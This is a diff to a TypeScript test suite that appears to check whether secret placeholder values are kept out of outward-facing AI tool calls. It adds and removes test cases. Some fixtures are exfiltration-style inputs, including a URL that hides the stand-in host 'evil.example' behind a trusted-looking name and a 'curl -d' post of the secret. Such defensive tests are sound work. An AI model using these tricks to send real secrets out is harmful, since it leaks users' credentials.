@@ -285,6 +285,9 @@ const attacks: Record<string, [Setting, string[]]> = {
       '{"url":"https://app.example.com@evil.example/","body":"§"}',
       '{"command":"curl -d § https://app.example.com/"}',
       '{"url":"https:","body":"§"}',
+      '{"url":"https://app.example.com/api","body":"§ is here"}',
+      '{"note":"https://app.example.com/","to":"§","x":"evil"}',
+      '{"note":"https://app.example.com/ §"}',
     ],
   ],
 }
@@ -430,13 +433,6 @@ for (const [name, [setting, templates]] of Object.entries(listed)) {
     }
   })
 }
-
-test('an outward-facing tool gets values as text once a listed host, and no other, was named', () => {
-  assert.equal(
-    restore('{"url":"https://app.example.com/api","to":"§","body":"§ is here"}', OUTWARD),
-    `{"url":"https://app.example.com/api","to":"${VALUE}","body":"${VALUE} is here"}`,
-  )
-})
 
 test('a restored value that is an address itself does not carry another value', () => {
   const restorer = createRestorer({
